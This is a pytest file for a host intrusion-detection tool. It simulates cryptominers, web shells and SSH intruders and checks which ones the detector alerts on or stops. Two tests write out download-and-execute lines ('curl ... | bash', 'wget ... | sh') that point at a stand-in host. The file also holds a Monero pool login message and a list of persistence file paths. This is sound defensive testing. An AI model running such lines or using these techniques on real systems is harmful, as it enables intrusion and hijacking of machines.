# SPDX-License-Identifier: Apache-2.0
"""Days on which a trojan comes: what the same pipeline says and would do.

Besides their own worth, these prove that the silence of the ordinary days means something.
"""

import pytest

from firedamp.policy.types import Level

WALLET = "4" + "8" * 94
POOL = "203.0.113.7"
ALL = ("freeze", "block", "capture", "quarantine", "clean", "kill")


def login_of(agent: str) -> dict:
    """What a Monero miner says first."""
    params = {"login": WALLET, "pass": "x", "agent": agent, "algo": ["rx/0"]}
    return {"id": 1, "jsonrpc": "2.0", "method": "login", "params": params}


@pytest.fixture
def web_shell(day):
    """A shell that somebody from outside has in a web server."""
    php = day.service("/usr/sbin/php-fpm8.2", "php8.2-fpm.service", uid=33)
    return day.shell(php, "id")


def test_login_to_a_pool_is_stopped(day, judge, web_shell):
    """
    By any program, from any place, on any port: the target is who said it, and its pool.
    """
    miner = day.run(web_shell, "/usr/bin/rsync", "rsync")
    day.talk(miner, POOL, 443, login_of("x"))

    [decision] = judge(day).decisions

    assert (decision.target, decision.actions, decision.mode) == (miner, ALL, "enforce")
    assert decision.addresses == ((POOL, 443),)


def test_miner_that_was_there_before_us_is_stopped_by_its_work(day, judge):
    """
    Its login was not heard, its next job is.
    """
    miner = day.service("/usr/local/bin/worker", "worker.service", uid=33)
    job = {"method": "job", "params": {"blob": "0e" * 76, "job_id": "1", "target": "b88d0600"}}
    day.talk(miner, POOL, 3333, [job])

    assert [each.target for each in judge(day).decisions] == [miner]


def test_disguised_miner_behind_tls_is_stopped_by_its_work(day, judge, web_shell):
    """
    Nothing on the wire can be read; its name and its use of processors do not go together.
    """
    miner = day.run(web_shell, "/var/tmp/x", "[kworker/0:0]", uid=33)
    day.connect(miner, POOL, 443)
    day.work(miner, cores=1.9, seconds=130, threads=2)

    verdict = judge(day)

    assert {"kernel_thread_name", "disguised_and_busy"} <= verdict.names
    assert {each.target for each in verdict.decisions} == {miner}


def test_miner_in_a_hidden_directory_with_a_known_pool_is_stopped(day, judge, web_shell):
    """
    Evidence of several kinds about one actor, none of it proof alone.
    """
    miner = day.run(web_shell, "/tmp/.X25-unix/x", "./x")
    day.resolve(miner, "pool.supportxmr.com", POOL)
    day.connect(miner, POOL, 9000)

    verdict = judge(day)

    assert {
        "hidden_exec",
        "known_pool_name",
        "known_pool_connection",
        "miner_actor",
    } <= verdict.names
    assert {each.target for each in verdict.decisions} == {miner}
    assert (POOL, 9000) in verdict.decisions[0].addresses


def test_intruder_over_ssh_who_settles_is_stopped(day, judge):
    """
    A guessed password, a disguised program, a line for cron and a key, as Outlaw does it.
    """
    shell = day.login()
    bot = day.run(shell, "/root/.configrc/a/kswapd0", "./kswapd0")
    crontab = day.run(shell, "/usr/bin/crontab", "crontab", "/root/.configrc/cron.d")
    day.write(crontab, "cron", "/var/spool/cron/crontabs/root", "rename")
    day.write(shell, "ssh_keys", "/root/.ssh/authorized_keys")

    verdict = judge(day)
    [decision] = [each for each in verdict.decisions if each.alert.policy.response][:1]

    assert "miner_actor" in verdict.names
    assert bot in {decision.target, *decision.related}
    assert "/var/spool/cron/crontabs/root" in decision.files


@pytest.mark.parametrize(
    ("policy", "level"),
    [
        ("cron_write", Level.MEDIUM),
        ("preload_write", Level.HIGH),
        ("authorized_keys_write", Level.MEDIUM),
        ("systemd_unit_write", Level.MEDIUM),
        ("shell_profile_write", Level.MEDIUM),
        ("init_write", Level.MEDIUM),
        ("account_write", Level.MEDIUM),
        ("hook_write", Level.MEDIUM),
    ],
)
def test_service_that_changes_what_starts_by_itself_is_told_of(
    day, judge, web_shell, policy, level
):
    """
    Each place alone is an alert, and nothing is done about it.
    """
    place, path = {
        "cron_write": ("cron", "/etc/cron.d/zzh"),
        "preload_write": ("preload", "/etc/ld.so.preload"),
        "authorized_keys_write": ("ssh_keys", "/root/.ssh/authorized_keys2"),
        "systemd_unit_write": ("systemd", "/etc/systemd/system/bot.service"),
        "shell_profile_write": ("shell_profile", "/root/.bash_profile"),
        "init_write": ("init", "/etc/init.d/pwnrig"),
        "account_write": ("accounts", "/etc/passwd"),
        "hook_write": ("pam", "/etc/pam.d/sshd"),
    }[policy]
    day.write(web_shell, place, path)

    verdict = judge(day)

    assert verdict.names == {policy}
    assert [each.policy.level for each in verdict.alerts] == [level]
    assert verdict.decisions == []


def test_cron_line_that_downloads_is_told_of_each_time_it_runs(day, judge):
    """
    The shell that cron starts shows the whole command.
    """
    day.shell(day.cron, "curl -fsSL http://203.0.113.9/ldr.sh | bash > /dev/null 2>&1")

    assert judge(day).names == {"download_to_shell"}


def test_hole_in_a_service_is_told_of(day, judge):
    """
    The database itself runs what it downloads.
    """
    postgres = day.service("/usr/lib/postgresql/15/bin/postgres", "postgresql.service", uid=105)
    day.shell(postgres, "wget -qO- http://203.0.113.9/pg.sh | sh")

    assert judge(day).names == {"download_to_shell", "service_runs_download"}


def test_loader_in_memory_is_told_of(day, judge, web_shell):
    """
    Nothing is left on the disk to look at.
    """
    day.run(web_shell, "/memfd:x", "x", link_count=0)
    day.run(web_shell, "/tmp/y", "y", link_count=0)

    assert {"fileless_exec", "deleted_image"} <= judge(day).names


def test_processors_alone_never_lead_to_anything(day, judge, web_shell):
    """
    However busy, and for however long, and from whatever place.
    """
    for image in ("/usr/bin/x", "/tmp/x", "/tmp/.x/y"):
        busy = day.run(web_shell, image, image)
        day.work(busy, cores=8.0, seconds=1000)

    assert judge(day).decisions == []


def test_lying_name_server_cannot_have_others_killed(day, judge, web_shell):
    """
    A name is what some server said: it may cost an alert, and no process.
    """
    day.resolve(web_shell, "pool.supportxmr.com", "10.0.0.5")
    app = day.service("/usr/bin/node", "app.service", uid=1001)
    day.connect(app, "10.0.0.5", 5432)
    day.work(app, cores=2.0, seconds=200)
    test = day.run(app, "/tmp/go-build1/x.test", "x.test")
    day.connect(test, "10.0.0.5", 5432)

    verdict = judge(day)

    assert "known_pool_connection" in verdict.names
    assert verdict.decisions == []
